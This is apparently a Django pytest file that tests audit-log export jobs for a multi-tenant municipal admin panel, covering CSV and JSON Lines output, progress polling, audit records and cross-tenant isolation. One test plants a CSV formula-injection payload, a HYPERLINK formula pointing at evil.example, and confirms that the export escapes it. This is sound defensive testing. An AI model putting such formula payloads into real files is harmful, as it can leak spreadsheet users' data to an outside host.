"""ログのエクスポート: the file holds exactly what the screen shows, made by a background job, downloaded once audited.

The job runs in a Celery worker in production; here ``run_export`` is called directly, inside the test's
transaction, because a worker cannot see uncommitted rows (test_logs_export_worker.py runs the real worker).
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime

import pytest
from django.contrib.auth.models import Group
from django.db import connection

from audit import exports
from audit.models import AuditEvent, ExportJob
from audit.services import record
from tests.adminpanel.test_logs_search import (
    OPERATIONS,
    PROMPTS,
    admin_of_a,
    all_pages,
    marker,
    prompt_event,
    users_of,
)
from tests.conftest import login

BOM = "\ufeff"


@pytest.fixture
def staff_a(tenant_a):
    return users_of(tenant_a)


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def start(client, kind: str, fmt: str, params: dict, django_capture_on_commit_callbacks) -> ExportJob:
    """Press an export button as demo-a's administrator; the queued task is not sent (run the job with ``run``)."""
    from tenants.models import Tenant

    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = client.post("/manage/exports/", {"kind": kind, "format": fmt, **params})
    assert response.status_code == 302, response.content.decode()[:500]
    job_id = int(re.search(r"/manage/exports/(\d+)/$", response["Location"]).group(1))
    assert len(callbacks) == 1
    connection.set_tenant(Tenant.objects.get(slug="demo-a"))
    return ExportJob.objects.get(pk=job_id)


def run(job: ExportJob) -> ExportJob:
    exports.run_export(job.pk)
    job.refresh_from_db()
    assert job.state == ExportJob.State.DONE, job.error
    return job


def download(client, job: ExportJob) -> bytes:
    response = client.get(f"/manage/exports/{job.pk}/download/")
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def csv_rows(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[1:], newline="")))


# --------------------------------------------------------------------------- contents


def test_a_prompt_export_holds_exactly_the_filtered_rows_of_every_page_in_screen_order(
        client_a, tenant_a, staff_a, django_capture_on_commit_callbacks):
    word = marker()
    connection.set_tenant(tenant_a)
    group = Group.objects.create(name="市民課エクスポート")
    staff_a["A002"].groups.add(group)
    for n in range(63):
        prompt_event(staff_a["A002" if n % 3 else "A003"], prompt=f"{word} 依頼{n:02d}", answer=f"回答{n:02d}",
                     findings=[{"type": "phone", "start": 0, "end": 4, "action": "mask"}] if n == 5 else [])
    prompt_event(staff_a["A002"], prompt="条件に合わない依頼")
    admin = admin_of_a(client_a)
    params = {"text": word, "group": str(group.pk)}
    screen = all_pages(admin, PROMPTS, params)
    assert len(screen) == 42  # two pages

    for fmt in ("csv", "jsonl"):
        job = run(start(admin, "prompts", fmt, params, django_capture_on_commit_callbacks))
        assert job.rows_done == job.rows_total == 42
        data = download(admin, job)
        if fmt == "csv":
            header, *rows = csv_rows(data)
            assert header == ["日時", "職員番号", "氏名", "グループ", "モデル", "結果", "プロンプト文字数",
                              "回答文字数", "プロンプト", "回答", "検出された個人情報", "所要時間(ms)"]
            by_prompt = {e.detail["prompt"]: e.pk for e in AuditEvent.objects.filter(pk__in=screen)}
            assert [by_prompt[row[8]] for row in rows] == screen
            sample = next(row for row in rows if row[8].endswith("依頼05"))
            assert sample[1:7] == ["A002", "佐藤 花子", "市民課エクスポート", "stub-gpt", "送信", str(len(sample[8]))]
            assert sample[9] == "回答05" and sample[10] == "phone" and sample[11] == "120"
            assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", sample[0])
        else:
            lines = [json.loads(line) for line in data.decode("utf-8").splitlines()]
            assert [line["id"] for line in lines] == screen


def test_an_operation_export_holds_exactly_the_filtered_rows_in_screen_order(
        client_a, tenant_a, staff_a, django_capture_on_commit_callbacks):
    word = marker()
    connection.set_tenant(tenant_a)
    for n in range(7):
        record(action="user.update", actor=staff_a["A001"], target=f"user:{word}{n}",
               detail={"department": {"before": "市民課", "after": f"福祉課{n}"}})
        record(action="login", actor=staff_a["A002"], target=f"user:{word}{n}")
    admin = admin_of_a(client_a)
    params = {"text": word, "category": "users", "user": "A001"}
    screen = all_pages(admin, OPERATIONS, params)
    assert len(screen) == 7

    job = run(start(admin, "operations", "csv", params, django_capture_on_commit_callbacks))
    header, *rows = csv_rows(download(admin, job))
    assert header == ["日時", "操作者", "操作", "対象", "詳細(JSON)", "IPアドレス"]
    assert [row[3] for row in rows] == [f"user:{word}{n}" for n in reversed(range(7))]
    assert rows[0][1] == "管理 太郎（A001）" and rows[0][2] == "user.update"
    assert json.loads(rows[0][4]) == {"department": {"before": "市民課", "after": "福祉課6"}}

    job = run(start(admin, "operations", "jsonl", params, django_capture_on_commit_callbacks))
    lines = [json.loads(line) for line in download(admin, job).decode().splitlines()]
    assert [line["id"] for line in lines] == screen
    assert lines[0]["detail"] == {"department": {"before": "市民課", "after": "福祉課6"}}


def test_csv_has_a_bom_and_cells_that_cannot_run_as_formulas(
        client_a, tenant_a, staff_a, django_capture_on_commit_callbacks):
    word = marker()
    connection.set_tenant(tenant_a)
    prompt_event(staff_a["A002"], prompt=f'=HYPERLINK("http://evil.example/?{word}","開く")',
                 answer="@SUM(A1:A9)")
    prompt_event(staff_a["A002"], prompt=f"+{word}", answer="-1+2")
    admin = admin_of_a(client_a)
    job = run(start(admin, "prompts", "csv", {"text": word}, django_capture_on_commit_callbacks))
    data = download(admin, job)
    assert data.startswith(BOM.encode("utf-8"))
    _header, second, first = csv_rows(data)
    assert first[8].startswith("'=HYPERLINK(") and first[9] == "'@SUM(A1:A9)"
    assert second[8] == f"'+{word}" and second[9] == "'-1+2"
    for row in (first, second):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_json_lines_round_trip_every_value(client_a, tenant_a, staff_a, django_capture_on_commit_callbacks):
    word = marker()
    tricky = f'=HYPERLINK("x")\n改行と"引用符"、タブ\tと絵文字😀 {word}'
    connection.set_tenant(tenant_a)
    event = prompt_event(staff_a["A003"], action="prompt.masked", prompt=tricky, answer="@SUM(1)\r\n終わり",
                         findings=[{"type": "phone", "start": 0, "end": 3, "action": "mask"},
                                   {"type": "email", "start": 5, "end": 9, "action": "mask"},
                                   {"type": "phone", "start": 12, "end": 15, "action": "mask"}])
    admin = admin_of_a(client_a)
    job = run(start(admin, "prompts", "jsonl", {"text": word}, django_capture_on_commit_callbacks))
    data = download(admin, job).decode("utf-8")
    assert not data.startswith(BOM) and data.endswith("\n")
    (line,) = [json.loads(raw) for raw in data.splitlines()]
    assert line["id"] == event.pk and line["prompt"] == tricky and line["answer"] == "@SUM(1)\r\n終わり"
    assert datetime.fromisoformat(line["created_at"]) == event.created_at
    assert line["created_at"].endswith("+09:00")
    assert line["staff_number"] == "A003" and line["full_name"] == "鈴木 一郎"
    assert line["result"] == "マスクして送信" and line["pii_types"] == ["phone", "email"]
    assert line["prompt_chars"] == len(tricky) and line["latency_ms"] == 120


# --------------------------------------------------------------------------- the job


def test_starting_an_export_is_audited_and_queues_the_job_after_commit(
        client_a, tenant_a, staff_a, django_capture_on_commit_callbacks, monkeypatch):
    from audit.tasks import run_export as run_export_task

    queued = []
    monkeypatch.setattr(run_export_task, "delay", lambda job_id: queued.append((connection.schema_name, job_id)))
    word = marker()
    admin = admin_of_a(client_a)
    with django_capture_on_commit_callbacks(execute=True):
        response = admin.post("/manage/exports/", {"kind": "prompts", "format": "csv", "text": word,
                                                   "result": "blocked", "date_from": "2026-01-01"})
    connection.set_tenant(tenant_a)
    job = ExportJob.objects.latest("id")
    assert response["Location"] == f"/manage/exports/{job.pk}/"
    assert queued == [(tenant_a.schema_name, job.pk)]  # sent from demo-a's schema: the worker runs there
    assert job.state == "queued" and job.requested_by.staff_number == "A001" and job.kind == "prompts"
    assert job.filters == {"text": word, "result": "blocked", "date_from": "2026-01-01"}
    event = AuditEvent.objects.get(action="export.start", target=f"export:{job.pk}")
    assert event.actor_id == job.requested_by_id and event.detail["filters"] == job.filters
    assert event.detail["format"] == "csv"


def test_an_export_holds_what_the_screen_showed_when_asked_not_events_written_while_it_waited(
        client_a, tenant_a, staff_a, django_capture_on_commit_callbacks):
    word = marker()
    connection.set_tenant(tenant_a)
    shown = prompt_event(staff_a["A002"], prompt=f"{word} 前")
    admin = admin_of_a(client_a)
    job = start(admin, "prompts", "jsonl", {"text": word}, django_capture_on_commit_callbacks)
    prompt_event(staff_a["A002"], prompt=f"{word} 後")
    job = run(job)
    assert [json.loads(line)["id"] for line in download(admin, job).decode().splitlines()] == [shown.pk]


def test_a_job_of_an_admin_since_made_general_fails_with_a_reason(
        client_a, tenant_a, staff_a, django_capture_on_commit_callbacks):
    admin = admin_of_a(client_a)
    job = start(admin, "operations", "csv", {}, django_capture_on_commit_callbacks)
    from accounts.models import User

    User.objects.filter(pk=job.requested_by_id).update(role="general")
    exports.run_export(job.pk)
    job.refresh_from_db()
    assert job.state == "failed" and "管理者でなくなった" in job.error and not job.file_path


def test_an_export_with_bad_filters_starts_nothing(client_a, tenant_a, django_capture_on_commit_callbacks):
    admin = admin_of_a(client_a)
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = admin.post("/manage/exports/", {"kind": "prompts", "format": "csv", "date_from": "昨日"},
                              follow=True)
    assert "開始日の形式が正しくありません" in response.content.decode() and callbacks == []
    response = admin.post("/manage/exports/", {"kind": "prompts", "format": "xlsx"}, follow=True)
    assert "CSVかJSON Lines" in response.content.decode()
    connection.set_tenant(tenant_a)
    assert not ExportJob.objects.exists()
    assert admin.get("/manage/exports/").status_code == 405


def test_the_status_page_polls_its_progress_until_done_then_offers_the_download(
        client_a, tenant_a, staff_a, django_capture_on_commit_callbacks, monkeypatch):
    word = marker()
    connection.set_tenant(tenant_a)
    for n in range(7):
        prompt_event(staff_a["A002"], prompt=f"{word} {n}")
    admin = admin_of_a(client_a)
    job = start(admin, "prompts", "csv", {"text": word}, django_capture_on_commit_callbacks)

    page = admin.get(f"/manage/exports/{job.pk}/").content.decode()
    assert f'hx-get="/manage/exports/{job.pk}/"' in page and 'hx-trigger="every 1s"' in page
    assert "待機中" in page and "ダウンロード" not in page and f"検索する文字: {word}" in page

    seen = []
    real_update = exports._update
    monkeypatch.setattr(exports, "PROGRESS_EVERY", 2)

    def spy(job_, **fields):
        real_update(job_, **fields)
        if fields.get("state") is None and "rows_done" in fields:
            # What an administrator polling at this moment sees.
            fragment = admin.get(f"/manage/exports/{job_.pk}/", HTTP_HX_REQUEST="true").content.decode()
            seen.append((fields["rows_done"], fragment))
            connection.set_tenant(tenant_a)

    monkeypatch.setattr(exports, "_update", spy)
    run(job)
    assert [rows for rows, _ in seen] == [2, 4, 6]
    _rows, fragment = seen[1]
    assert fragment.startswith('<div id="export-progress"') and "<h1>" not in fragment  # the partial only
    assert 'hx-trigger="every 1s"' in fragment and "4 / 7 件" in fragment and 'value="57"' in fragment

    done = admin.get(f"/manage/exports/{job.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert "hx-trigger" not in done and "hx-get" not in done  # polling stops
    assert f'href="/manage/exports/{job.pk}/download/"' in done and "7件" in done


def test_a_failed_export_says_so_and_leaves_no_file(client_a, tenant_a, staff_a, django_capture_on_commit_callbacks,
                                                    monkeypatch, _media):
    admin = admin_of_a(client_a)
    job = start(admin, "operations", "csv", {}, django_capture_on_commit_callbacks)

    def broken(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(exports, "_write_rows", broken)
    exports.run_export(job.pk)
    job.refresh_from_db()
    assert job.state == "failed" and "もう一度お試しください" in job.error
    assert not any(p.is_file() for p in _media.rglob("*"))
    page = admin.get(f"/manage/exports/{job.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert "もう一度お試しください" in page and "hx-trigger" not in page
    assert admin.get(f"/manage/exports/{job.pk}/download/").status_code == 404


def test_the_file_lives_under_the_municipalitys_own_folder(client_a, tenant_a, django_capture_on_commit_callbacks,
                                                            _media):
    admin = admin_of_a(client_a)
    job = run(start(admin, "operations", "jsonl", {}, django_capture_on_commit_callbacks))
    assert job.file_path.startswith(f"exports/{tenant_a.schema_name}/")
    assert (_media / job.file_path).is_file() and job.file_size == (_media / job.file_path).stat().st_size


def test_a_download_is_audited_and_any_admin_of_the_municipality_may_follow_the_job(
        client_a, tenant_a, staff_a, django_capture_on_commit_callbacks):
    from accounts.services import set_role

    connection.set_tenant(tenant_a)
    set_role(user=staff_a["A003"], role="admin", actor=staff_a["A001"])
    admin = admin_of_a(client_a)
    job = run(start(admin, "operations", "csv", {"category": "users"}, django_capture_on_commit_callbacks))
    admin.post("/accounts/logout/")

    login(client_a, "A003", "Shokuin#Demo2026")  # another administrator of the same municipality
    assert client_a.get(f"/manage/exports/{job.pk}/").status_code == 200
    response = client_a.get(f"/manage/exports/{job.pk}/download/")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="operation-log-')
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    b"".join(response.streaming_content)
    connection.set_tenant(tenant_a)
    event = AuditEvent.objects.get(action="export.download", target=f"export:{job.pk}")
    assert event.actor_id == staff_a["A003"].pk and event.detail["rows"] == job.rows_done
    job.refresh_from_db()
    assert job.downloaded_at is not None


def test_another_municipalitys_admin_cannot_reach_our_job_by_its_id(
        client_a, client_b, tenant_a, tenant_b, django_capture_on_commit_callbacks):
    admin = admin_of_a(client_a)
    job = run(start(admin, "operations", "csv", {}, django_capture_on_commit_callbacks))
    connection.set_tenant(tenant_b)
    assert not ExportJob.objects.filter(pk=job.pk).exists()  # the id names nothing in demo-b's schema
    login(client_b, "B001", "Kanri#Demo2026")
    assert client_b.get(f"/manage/exports/{job.pk}/").status_code == 404
    assert client_b.get(f"/manage/exports/{job.pk}/download/").status_code == 404
    connection.set_tenant(tenant_a)
    assert not AuditEvent.objects.filter(action="export.download").exists()


def test_a_file_path_outside_the_municipalitys_folder_is_never_served(
        client_a, tenant_a, django_capture_on_commit_callbacks, _media):
    admin = admin_of_a(client_a)
    job = run(start(admin, "operations", "csv", {}, django_capture_on_commit_callbacks))
    other = _media / "exports" / "demo_b_schema" / "1-operations.csv"
    other.parent.mkdir(parents=True)
    other.write_text("secret")
    ExportJob.objects.filter(pk=job.pk).update(file_path=str(other.relative_to(_media)))
    assert admin.get(f"/manage/exports/{job.pk}/download/").status_code == 404


def test_a_general_user_gets_403_on_every_log_and_export_url_and_it_is_logged(
        client_a, tenant_a, django_capture_on_commit_callbacks):
    admin = admin_of_a(client_a)
    job = run(start(admin, "operations", "csv", {}, django_capture_on_commit_callbacks))
    admin.post("/accounts/logout/")
    login(client_a, "A002", "Shokuin#Demo2026")
    urls = [PROMPTS, OPERATIONS, "/manage/exports/", f"/manage/exports/{job.pk}/",
            f"/manage/exports/{job.pk}/download/"]
    for url in urls:
        for method in ("get", "post"):
            data = {"kind": "operations", "format": "csv"} if method == "post" else None
            assert getattr(client_a, method)(url, data).status_code == 403, (method, url)
    connection.set_tenant(tenant_a)
    denied = set(AuditEvent.objects.filter(action="access.denied").values_list("target", flat=True))
    assert set(urls) <= denied
    assert ExportJob.objects.count() == 1
    assert not AuditEvent.objects.filter(action="export.download").exists()
